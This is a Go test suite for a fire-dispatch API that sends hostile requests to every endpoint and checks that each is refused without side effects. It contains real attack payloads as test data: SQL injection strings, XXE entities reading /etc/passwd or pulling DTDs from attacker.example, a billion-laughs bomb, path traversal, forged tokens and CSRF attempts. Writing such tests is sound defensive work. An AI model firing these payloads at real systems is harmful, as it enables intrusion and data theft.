package api

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/fireline/fireline"
	"github.com/fireline/fireline/intake"
)

// The hostile-input suite: OWASP-style attacks on every input of the API, each answered with
// the client error it deserves, none of them changing anything. Each row is one request (or
// the same one repeated, for floods); a case that needs more than a request — a CSRF attempt
// with a session cookie, a login flood against one account, a source key posting another
// source's alarm — is one row with its headers, token and repeat count.

// hostileCase is one hostile request and the answer it must get.
type hostileCase struct {
	name        string
	method      string // GET when empty
	path        string
	token       string // the bearer token; "" sends none
	contentType string
	body        string
	header      []string // further headers, "Name: value"
	// repeat sends the request this many times (a flood) and checks the last answer.
	repeat int
	// status and code are the answer: the HTTP status and the problem's code.
	status int
	code   string
}

// Tokens of the hostile suite's sessions. Any other token is forged; expiredToken is a real
// session past its end.
const expiredToken = "expired-session-token"

var hostileUsers = map[string]fireline.User{
	"dispatcher": {Username: "dispatcher", Role: fireline.RoleOperator},
	"risk":       {Username: "risk", Role: fireline.RoleRisk},
	"admin":      {Username: "admin", Role: fireline.RoleAdmin},
	"gateway":    {Username: "gateway", Role: fireline.RoleGateway},
	"field:E-1":  {Username: "field:E-1", Role: fireline.RoleField, UnitID: "E-1"},
}

// hostileStore is the intake store with sessions that can be forged or expired, a login that
// never succeeds, an incident that unit E-1 is dispatched to, and a count of every write and
// search that reaches it. Anything else a handler reaches for panics (a 500, which fails).
type hostileStore struct {
	*intakeStore
	writes, searches int
}

func (f *hostileStore) SessionUser(_ context.Context, token string) (fireline.User, error) {
	if token == expiredToken {
		return fireline.User{}, fireline.Errorf(fireline.EUNAUTHORIZED, "session expired: sign in again")
	}
	u, ok := hostileUsers[token]
	if !ok {
		return fireline.User{}, fireline.Errorf(fireline.EUNAUTHORIZED, "unknown session: sign in again")
	}
	return u, nil
}

func (f *hostileStore) Authenticate(context.Context, string, string) (fireline.User, error) {
	return fireline.User{}, fireline.Errorf(fireline.EUNAUTHORIZED, "wrong username or password")
}

func (f *hostileStore) Incident(_ context.Context, id int64) (fireline.Incident, error) {
	if id != 7 {
		return fireline.Incident{}, fireline.Errorf(fireline.ENOTFOUND, "incident %d does not exist", id)
	}
	return fireline.Incident{ID: 7, Status: fireline.IncidentActive, Assignments: []fireline.Assignment{{UnitID: "E-1"}}}, nil
}

func (f *hostileStore) Incidents(context.Context, fireline.IncidentFilter) ([]fireline.Incident, error) {
	f.searches++
	return nil, nil
}

func (f *hostileStore) Units(context.Context, fireline.UnitFilter) ([]fireline.Unit, error) {
	f.searches++
	return nil, nil
}

func (f *hostileStore) ReportPosition(ctx context.Context, id string, fx fireline.Fix) (fireline.Unit, bool, error) {
	f.writes++
	return f.intakeStore.ReportPosition(ctx, id, fx)
}

func (f *hostileStore) CreateSession(context.Context, fireline.User, time.Duration) (string, error) {
	f.writes++
	return "a-new-session", nil
}

// openCounter is a recordings library that counts the names that reach it.
type openCounter struct {
	fakeRecordings
	opened *int
}

func (o openCounter) Open(room, name string) (fireline.RecordingFile, fireline.Recording, error) {
	*o.opened++
	return o.fakeRecordings.Open(room, name)
}

// hostileEnv is one fresh API with everything it may write counted.
type hostileEnv struct {
	s      *Server
	st     *hostileStore
	inc    *intakeIncidents
	bld    *fakeBuildings
	opened int
}

// changes is everything the environment's collaborators were asked to write.
func (e *hostileEnv) changes() int {
	return e.st.writes + len(e.st.alarms) + len(e.st.warnings) + len(e.st.history) + len(e.inc.received) + len(e.inc.recorded) + len(e.bld.writes)
}

func newHostileEnv(t *testing.T) *hostileEnv {
	t.Helper()
	e := &hostileEnv{st: &hostileStore{intakeStore: &intakeStore{fakeStore: &fakeStore{units: map[string]fireline.Unit{
		"E-1": {ID: "E-1", Status: fireline.UnitOnScene, IncidentID: 7, Point: fireline.Point{Lat: 36.45, Lng: 115.98}}}}}},
		inc: &intakeIncidents{}, bld: newFakeBuildings()}
	desk := intake.NewDesk(intake.New(registry{}, area{}, func() time.Time { return now }), e.st, e.st, e.inc, intake.DefaultDeskConfig(),
		slog.New(slog.DiscardHandler))
	e.s = New(DefaultConfig(), Deps{Store: e.st, Incidents: e.inc, Locator: gridLocator{}, Intake: desk,
		Recordings: openCounter{fakeRecordings{t.TempDir()}, &e.opened}, Logger: slog.New(slog.DiscardHandler),
		Risk: fakeRisk{}, PublicAlerts: &fakeAlerts{writes: &e.st.writes}, Buildings: e.bld})
	e.s.now = func() time.Time { return now }
	return e
}

// Payloads of the suite.
const (
	sqlQuote   = `' OR '1'='1`
	sqlDrop    = `'; DROP TABLE incidents; --`
	sqlUnion   = `1 UNION SELECT password_hash FROM users`
	xxeFile    = `<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>&xxe;</note></alert>`
	xxeDTD     = `<?xml version="1.0"?><!DOCTYPE alert SYSTEM "http://attacker.example/evil.dtd"><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`
	xxeParam   = `<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`
	latin1CAP  = `<?xml version="1.0" encoding="ISO-8859-1"?><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`
	notCAPRoot = `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"/>`
	sdpOffer   = "v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n"
)

// billionLaughs is the classic entity bomb: ten levels of ten references, a gigabyte of "lol"
// if anything expanded it.
func billionLaughs() string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">`)
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&b, `<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	b.WriteString(`]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>&lol9;</note></alert>`)
	return b.String()
}

// deepXML nests n elements inside the alert.
func deepXML(n int) string {
	return `<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">` + strings.Repeat("<info>", n) + strings.Repeat("</info>", n) + `</alert>`
}

// withField returns the JSON object body with field set to v.
func withField(t *testing.T, body, field string, v any) string {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal([]byte(body), &m); err != nil {
		t.Fatal(err)
	}
	m[field] = v
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func hostileCases(t *testing.T) []hostileCase {
	const js, capXML = "application/json", "application/cap+xml"
	big := func(n int) string { return `{"call_id":"` + strings.Repeat("a", n) + `"}` }
	cases := []hostileCase{
		// SQL injection in every query parameter of the searches: each is typed or an enum,
		// and refused before any search runs.
		{name: "incidents ?status= injection", path: "/api/v1/incidents?status=open" + q(sqlQuote), token: "risk", status: 400, code: "invalid"},
		{name: "incidents ?type= injection", path: "/api/v1/incidents?type=structure_fire" + q(sqlDrop), token: "risk", status: 400, code: "invalid"},
		{name: "incidents ?level= injection", path: "/api/v1/incidents?level=" + q(sqlUnion), token: "risk", status: 400, code: "invalid"},
		{name: "incidents ?from= injection", path: "/api/v1/incidents?from=2026-12-01" + q(sqlQuote), token: "risk", status: 400, code: "invalid"},
		{name: "incidents ?to= injection", path: "/api/v1/incidents?to=" + q(sqlDrop), token: "risk", status: 400, code: "invalid"},
		{name: "incidents ?near= injection", path: "/api/v1/incidents?radius_m=100&near=36.4,115.9" + q(sqlDrop), token: "risk", status: 400, code: "invalid"},
		{name: "incidents ?radius_m= injection", path: "/api/v1/incidents?near=36.4,115.9&radius_m=100" + q(sqlQuote), token: "risk", status: 400, code: "invalid"},
		{name: "incidents ?limit= injection", path: "/api/v1/incidents?limit=10" + q(";DELETE FROM units"), token: "risk", status: 400, code: "invalid"},
		{name: "incidents ?open= injection", path: "/api/v1/incidents?open=true" + q(sqlQuote), token: "risk", status: 400, code: "invalid"},
		{name: "units ?status= injection", path: "/api/v1/units?status=available" + q(sqlQuote), token: "dispatcher", status: 400, code: "invalid"},
		{name: "units ?updated_since= injection", path: "/api/v1/units?updated_since=" + q(sqlDrop), token: "dispatcher", status: 400, code: "invalid"},
		{name: "nearby ?lat= injection", path: "/api/v1/nearby?lng=115.9&lat=36.4" + q(sqlQuote), token: "dispatcher", status: 400, code: "invalid"},
		{name: "escalations ?incident= injection", path: "/api/v1/escalations?incident=1" + q(" OR 1=1"), token: "dispatcher", status: 400, code: "invalid"},
		{name: "warnings ?active= injection", path: "/api/v1/warnings?active=true" + q(sqlQuote), token: "dispatcher", status: 400, code: "invalid"},
		{name: "risk ?bbox= injection", path: "/api/v1/risk/cells?bbox=115.9,36.4,116.1,36.5" + q(sqlDrop), token: "risk", status: 400, code: "invalid"},
		{name: "risk ?min_score= injection", path: "/api/v1/risk/cells?min_score=10" + q(sqlUnion), token: "risk", status: 400, code: "invalid"},
		{name: "risk ?limit= huge", path: "/api/v1/risk/cells?limit=99999999999999999999", token: "risk", status: 400, code: "invalid"},
		{name: "incident id injection", path: "/api/v1/incidents/7" + q(" OR 1=1"), token: "risk", status: 400, code: "invalid"},
		{name: "unit id injection", path: "/api/v1/units/" + q("E-1"+sqlQuote), token: "dispatcher", status: 404, code: "not_found"},

		// SQL injection in the JSON fields of every alarm source and the login that the API
		// checks (identifiers, enums, numbers); free text is data, stored as written.
		{name: "call type injection", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: withField(t, callBody, "type", "structure_fire"+sqlDrop), status: 400, code: "invalid"},
		{name: "call line injection", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: withField(t, callBody, "line", "119"+sqlQuote), status: 400, code: "invalid"},
		{name: "call lat as SQL", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: withField(t, callBody, "lat", "36.4"+sqlQuote), status: 400, code: "invalid"},
		{name: "panel device id injection", method: "POST", path: "/api/v1/alarms/iot", token: "gateway", contentType: js,
			body: withField(t, iotBody, "device_id", "FAP-1"+sqlQuote), status: 400, code: "invalid"},
		{name: "panel kind injection", method: "POST", path: "/api/v1/alarms/iot", token: "gateway", contentType: js,
			body: withField(t, iotBody, "kind", "fire_alarm"+sqlDrop), status: 400, code: "invalid"},
		{name: "pole id injection", method: "POST", path: "/api/v1/alarms/lamppost", token: "gateway", contentType: js,
			body: withField(t, pressBody, "pole_id", "LP-1"+sqlDrop), status: 400, code: "invalid"},
		{name: "public channel injection", method: "POST", path: "/api/v1/alarms/public", token: "gateway", contentType: js,
			body: withField(t, publicBody, "channel", "sms"+sqlUnion), status: 400, code: "invalid"},
		{name: "position unit injection", method: "POST", path: "/api/v1/units/" + q("E-1"+sqlQuote) + "/position", token: "field:E-1", contentType: js,
			body: `{"lat":36.45,"lng":115.98}`, status: 403, code: "forbidden"},
		{name: "a risk officer's import of records", method: "POST", path: "/api/v1/admin/imports?format=sf-calls", token: "risk", contentType: "text/csv",
			body: "Incident Number,Received DtTm\n1" + sqlDrop + ",x\n", status: 403, code: "forbidden"},
		{name: "login username injection", method: "POST", path: "/api/v1/auth/login", contentType: js,
			body: `{"username":"admin'--","password":"` + sqlQuote + `"}`, status: 401, code: "unauthorized"},

		// Coordinates and enums out of range.
		{name: "call lat beyond the pole", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: withField(t, callBody, "lat", 91), status: 400, code: "invalid"},
		{name: "call lng NaN as string", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: withField(t, callBody, "lng", "NaN"), status: 400, code: "invalid"},
		{name: "call at 0,0", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: withField(t, withField(t, callBody, "lat", 0), "lng", 0), status: 400, code: "invalid"},
		{name: "nearby lat Inf", path: "/api/v1/nearby?lat=Inf&lng=115.9", token: "dispatcher", status: 400, code: "invalid"},
		{name: "position lat 1e308", method: "POST", path: "/api/v1/units/E-1/position", token: "field:E-1", contentType: js,
			body: `{"lat":1e308,"lng":115.98}`, status: 400, code: "invalid"},

		// The buildings' boards and their devices' registry: ids, addresses and places are
		// checked before anything is read or written.
		{name: "buildings ?impaired= injection", path: "/api/v1/buildings?impaired=true" + q(sqlQuote), token: "risk", status: 400, code: "invalid"},
		{name: "board premises id injection", path: "/api/v1/buildings/" + q("P-1"+sqlDrop), token: "risk", status: 400, code: "invalid"},
		{name: "device address injection", method: "POST", path: "/api/v1/admin/devices", token: "admin", contentType: js,
			body: withField(t, deviceBody, "address", "00112233aabb"+sqlQuote), status: 400, code: "invalid"},
		{name: "device id injection", method: "POST", path: "/api/v1/admin/devices", token: "admin", contentType: js,
			body: withField(t, deviceBody, "id", "UITD-2"+sqlDrop), status: 400, code: "invalid"},
		{name: "device premises id injection", method: "POST", path: "/api/v1/admin/devices", token: "admin", contentType: js,
			body: withField(t, deviceBody, "premise_id", "P-1"+sqlUnion), status: 400, code: "invalid"},
		{name: "device place system as SQL", method: "POST", path: "/api/v1/admin/devices", token: "admin", contentType: js,
			body: withField(t, deviceBody, "places", []any{map[string]any{"system": "1" + sqlQuote, "system_address": 1}}), status: 400, code: "invalid"},
		{name: "device place component address negative", method: "POST", path: "/api/v1/admin/devices", token: "admin", contentType: js,
			body: withField(t, deviceBody, "places", []any{map[string]any{"system": 1, "system_address": 1, "component_address": -1}}), status: 400, code: "invalid"},
		{name: "device places duplicated", method: "POST", path: "/api/v1/admin/devices", token: "admin", contentType: js,
			body: withField(t, deviceBody, "places", []any{map[string]any{"system": 1, "system_address": 1}, map[string]any{"system": 1, "system_address": 1}}), status: 400, code: "invalid"},
		{name: "device location NaN as string", method: "POST", path: "/api/v1/admin/devices", token: "admin", contentType: js,
			body: withField(t, deviceBody, "location", map[string]any{"lat": "NaN", "lng": 115.98}), status: 400, code: "invalid"},
		{name: "a risk officer's device", method: "POST", path: "/api/v1/admin/devices", token: "risk", contentType: js,
			body: deviceBody, status: 403, code: "forbidden"},
		{name: "oversized device", method: "POST", path: "/api/v1/admin/devices", token: "admin", contentType: js,
			body: withField(t, deviceBody, "building", strings.Repeat("b", maxDeviceBody)), status: 413, code: "too_large"},

		// Oversized bodies: refused with 413 by their declared length or as they are read.
		{name: "oversized call", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: big(intake.MaxJSONBytes), status: 413, code: "too_large"},
		{name: "oversized login", method: "POST", path: "/api/v1/auth/login", contentType: js,
			body: `{"username":"` + strings.Repeat("u", maxJSONBody) + `","password":"p"}`, status: 413, code: "too_large"},
		{name: "oversized CAP", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: capXML,
			body: capBody + strings.Repeat(" ", intake.MaxCAPBytes), status: 413, code: "too_large"},
		{name: "oversized position", method: "POST", path: "/api/v1/units/E-1/position", token: "field:E-1", contentType: js,
			body: `{"lat":36.45,"lng":115.98,` + strings.Repeat(" ", maxPositionBody) + `}`, status: 413, code: "too_large"},
		{name: "oversized SDP offer", method: "POST", path: "/api/v1/media/incidents/7/whip", token: "field:E-1", contentType: "application/sdp",
			body: sdpOffer + strings.Repeat("a=x\r\n", maxSDPBody/5+1), status: 413, code: "too_large"},

		// Malformed JSON.
		{name: "truncated JSON", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: `{"call_id":"119-1","line":`, status: 400, code: "invalid"},
		{name: "two JSON objects", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: callBody + callBody, status: 400, code: "invalid"},
		{name: "unknown JSON field", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: withField(t, callBody, "is_admin", true), status: 400, code: "invalid"},
		{name: "JSON array for an object", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: `[` + callBody + `]`, status: 400, code: "invalid"},
		{name: "JSON with invalid UTF-8", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: strings.Replace(callBody, "Wang", "Wa\xffng", 1), status: 400, code: "invalid"},
		{name: "JSON with a duplicate key", method: "POST", path: "/api/v1/auth/login", contentType: js,
			body: `{"username":"a","password":"b","password":"c"}`, status: 400, code: "invalid"},
		{name: "alarm with a duplicate key", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js,
			body: strings.Replace(callBody, `"line":"119"`, `"line":"119","type":"hazmat"`, 1), status: 400, code: "invalid"},
		{name: "login with invalid UTF-8", method: "POST", path: "/api/v1/auth/login", contentType: js,
			body: "{\"username\":\"adm\xffin\",\"password\":\"b\"}", status: 400, code: "invalid"},
		{name: "JSON as text/plain", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: "text/plain",
			body: callBody, status: 415, code: "unsupported_media_type"},
		{name: "JSON in Latin-1", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js + "; charset=iso-8859-1",
			body: callBody, status: 415, code: "unsupported_media_type"},
		{name: "empty body", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: js, status: 400, code: "invalid"},

		// Malformed and hostile XML on the CAP feed.
		{name: "truncated XML", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: capXML,
			body: capBody[:len(capBody)/2], status: 400, code: "invalid"},
		{name: "XML that is not CAP", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: capXML,
			body: notCAPRoot, status: 400, code: "invalid"},
		{name: "XXE: external entity file:///etc/passwd", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: capXML,
			body: xxeFile, status: 400, code: "invalid"},
		{name: "XXE: external DTD", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: capXML,
			body: xxeDTD, status: 400, code: "invalid"},
		{name: "XXE: parameter entity", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: capXML,
			body: xxeParam, status: 400, code: "invalid"},
		{name: "billion laughs", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: capXML,
			body: billionLaughs(), status: 400, code: "invalid"},
		{name: "XML nested 10,000 deep", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: capXML,
			body: deepXML(10_000), status: 400, code: "invalid"},
		{name: "XML declared Latin-1", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: capXML,
			body: latin1CAP, status: 400, code: "invalid"},
		{name: "CAP as application/xml", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: "application/xml",
			body: capBody, status: 415, code: "unsupported_media_type"},

		// Public alerts: the body is strictly decoded and bounded, the identifier checked
		// before anything is looked up, and the public documents' names too.
		{name: "alert with an unknown field", method: "POST", path: "/api/v1/incidents/7/alerts", token: "dispatcher", contentType: js,
			body: `{"event":"x","headline":"y","sender":"attacker@example"}`, status: 400, code: "invalid"},
		{name: "alert radius as a string", method: "POST", path: "/api/v1/incidents/7/alerts", token: "dispatcher", contentType: js,
			body: `{"event":"x","headline":"y","radius_m":"1e9"}`, status: 400, code: "invalid"},
		{name: "alert radius beyond bounds", method: "POST", path: "/api/v1/incidents/7/alerts", token: "dispatcher", contentType: js,
			body: `{"event":"x","headline":"y","radius_m":1e308}`, status: 400, code: "invalid"},
		{name: "oversized alert", method: "POST", path: "/api/v1/incidents/7/alerts", token: "dispatcher", contentType: js,
			body: `{"event":"x","headline":"y","description":"` + strings.Repeat("a", 70_000) + `"}`, status: 413, code: "too_large"},
		{name: "alert identifier injection", method: "POST", path: "/api/v1/alerts/" + q("A-1"+sqlQuote) + "/cancel", token: "dispatcher",
			contentType: js, body: `{}`, status: 400, code: "invalid"},
		{name: "CAP document traversal", path: "/cap/alerts/..%2F..%2Fetc%2Fpasswd.xml", status: 400, code: "invalid"},
		{name: "a risk officer cancels an alert", method: "POST", path: "/api/v1/alerts/A-1/cancel", token: "risk", contentType: js,
			body: `{}`, status: 403, code: "forbidden"},

		// Malformed SDP.
		{name: "SDP with a NUL", method: "POST", path: "/api/v1/media/incidents/7/whip", token: "field:E-1", contentType: "application/sdp",
			body: sdpOffer + "a=x\x00y\r\n", status: 400, code: "invalid"},
		{name: "SDP not UTF-8", method: "POST", path: "/api/v1/media/incidents/7/whip", token: "field:E-1", contentType: "application/sdp",
			body: sdpOffer + "s=\xfe\xff\r\n", status: 400, code: "invalid"},

		// Path traversal on the recordings: no such name reaches the library.
		{name: "traversal ../", path: "/api/v1/incidents/7/recordings/../../../etc/passwd", token: "risk", status: 404, code: "not_found"},
		{name: "traversal %2e%2e%2f", path: "/api/v1/incidents/7/recordings/%2e%2e%2f%2e%2e%2fetc%2fpasswd", token: "risk", status: 400, code: "invalid"},
		{name: "traversal ..%2F", path: "/api/v1/incidents/7/recordings/..%2F..%2Fetc%2Fpasswd", token: "risk", status: 400, code: "invalid"},
		{name: "traversal double-encoded", path: "/api/v1/incidents/7/recordings/%252e%252e%252fetc%252fpasswd", token: "risk", status: 400, code: "invalid"},
		{name: "traversal backslash", path: "/api/v1/incidents/7/recordings/..%5C..%5Cetc%5Cpasswd", token: "risk", status: 400, code: "invalid"},
		{name: "absolute path", path: "/api/v1/incidents/7/recordings/%2Fetc%2Fpasswd", token: "risk", status: 400, code: "invalid"},
		{name: "NUL in the name", path: "/api/v1/incidents/7/recordings/" + recName + "%00.json", token: "risk", status: 400, code: "invalid"},
		{name: "parent alone", path: "/api/v1/incidents/7/recordings/..", token: "risk", status: 400, code: "invalid"},
		{name: "hidden file", path: "/api/v1/incidents/7/recordings/.env", token: "risk", status: 400, code: "invalid"},
		// Without a token or ticket the route's guard refuses before the name is looked at.
		{name: "traversal without a token", path: "/api/v1/incidents/7/recordings/..%2F..%2Fetc%2Fpasswd", status: 401, code: "unauthorized"},

		// Forged and expired credentials.
		{name: "forged bearer token", method: "POST", path: "/api/v1/alarms/call", token: "forged-token", contentType: js, body: callBody, status: 401, code: "unauthorized"},
		{name: "expired bearer token", method: "POST", path: "/api/v1/alarms/call", token: expiredToken, contentType: js, body: callBody, status: 401, code: "unauthorized"},
		{name: "no token", method: "POST", path: "/api/v1/alarms/call", contentType: js, body: callBody, status: 401, code: "unauthorized"},
		{name: "Basic credentials", method: "POST", path: "/api/v1/alarms/call", contentType: js, body: callBody,
			header: []string{"Authorization: Basic ZGlzcGF0Y2hlcjpwYXNzd29yZA=="}, status: 401, code: "unauthorized"},
		{name: "token in the query of a non-stream route", method: "POST", path: "/api/v1/alarms/call?token=dispatcher", contentType: js, body: callBody,
			status: 401, code: "unauthorized"},
		{name: "expired token on the event stream", path: "/api/v1/events?token=" + expiredToken, status: 401, code: "unauthorized"},
		{name: "forged recording ticket", path: "/api/v1/incidents/7/recordings/" + recName + "?ticket=9999999999.AAAA", status: 403, code: "forbidden"},
		{name: "forged token on WHIP", method: "POST", path: "/api/v1/media/incidents/7/whip", token: "field:E-9", contentType: "application/sdp",
			body: sdpOffer, status: 401, code: "unauthorized"},

		// Cross-site requests riding on a session cookie: a forged form sends the cookie but
		// cannot read the CSRF token beside it.
		{name: "CSRF: cookie session without the token", method: "POST", path: "/api/v1/alarms/call", contentType: js, body: callBody,
			header: []string{"Cookie: fireline_session=dispatcher"}, status: 403, code: "forbidden"},
		{name: "CSRF: cookie session with a forged token", method: "POST", path: "/api/v1/alarms/call", contentType: js, body: callBody,
			header: []string{"Cookie: fireline_session=dispatcher; fireline_csrf=forged", "X-CSRF-Token: forged"}, status: 403, code: "forbidden"},

		// Floods.
		{name: "login flood from one address", method: "POST", path: "/api/v1/auth/login", contentType: js,
			body: `{"username":"dispatcher","password":"guess"}`, repeat: 50, status: 429, code: "too_many"},
	}
	return cases
}

// q percent-encodes a query or path value.
func q(s string) string {
	return strings.NewReplacer("%", "%25", " ", "%20", "'", "%27", ";", "%3B", "=", "%3D", "&", "%26", "#", "%23", "+", "%2B", "/", "%2F").Replace(s)
}

func TestHostileInput(t *testing.T) {
	for _, c := range hostileCases(t) {
		t.Run(c.name, func(t *testing.T) {
			e := newHostileEnv(t)
			var w *httptest.ResponseRecorder
			start := time.Now()
			for range max(c.repeat, 1) {
				w = e.send(c)
			}
			if w.Code != c.status {
				t.Fatalf("%d, want %d: %s", w.Code, c.status, w.Body)
			}
			var p Problem
			if err := json.Unmarshal(w.Body.Bytes(), &p); err != nil || w.Header().Get("Content-Type") != "application/problem+json" {
				t.Fatalf("not problem JSON (%s): %q", w.Header().Get("Content-Type"), w.Body)
			}
			if p.Code != c.code || p.Status != c.status || p.Detail == "" {
				t.Fatalf("problem %+v, want code %s", p, c.code)
			}
			if n := e.changes(); n != 0 {
				t.Fatalf("%d writes reached the store or the workflows", n)
			}
			if e.opened != 0 {
				t.Fatalf("a hostile name reached the recordings library %d times", e.opened)
			}
			if e.st.searches != 0 && c.status != http.StatusTooManyRequests {
				t.Fatalf("the search ran %d times", e.st.searches)
			}
			// An attack is answered at once: nothing expands, nothing is fetched.
			if d := time.Since(start); d > 2*time.Second*time.Duration(max(c.repeat, 1)) {
				t.Fatalf("took %s", d)
			}
		})
	}
}

// The same requests without the attack in them go through, so each row above fails for its
// attack and not for its shape.
func TestHostileInputBaseline(t *testing.T) {
	for _, c := range []hostileCase{
		{name: "search", path: "/api/v1/incidents?status=open&type=structure_fire&level=1&near=36.4,115.9&radius_m=100", token: "risk", status: 200},
		{name: "call", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: "application/json", body: callBody, status: 202},
		{name: "CAP", method: "POST", path: "/api/v1/warnings", token: "gateway", contentType: "application/cap+xml", body: capBody, status: 202},
		{name: "free text is data", method: "POST", path: "/api/v1/alarms/call", token: "dispatcher", contentType: "application/json",
			body: strings.Replace(callBody, "Wang", `Robert'); DROP TABLE alarms; --`, 1), status: 202},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newHostileEnv(t)
			if w := e.send(c); w.Code != c.status {
				t.Fatalf("%d, want %d: %s", w.Code, c.status, w.Body)
			}
		})
	}
}

func (e *hostileEnv) send(c hostileCase) *httptest.ResponseRecorder {
	r := httptest.NewRequest(cmpOr(c.method, "GET"), c.path, strings.NewReader(c.body))
	r.RemoteAddr = "203.0.113.66:40000"
	if c.token != "" {
		r.Header.Set("Authorization", "Bearer "+c.token)
	}
	if c.contentType != "" {
		r.Header.Set("Content-Type", c.contentType)
	}
	for _, h := range c.header {
		k, v, _ := strings.Cut(h, ": ")
		r.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	e.s.ServeHTTP(w, r)
	return w
}
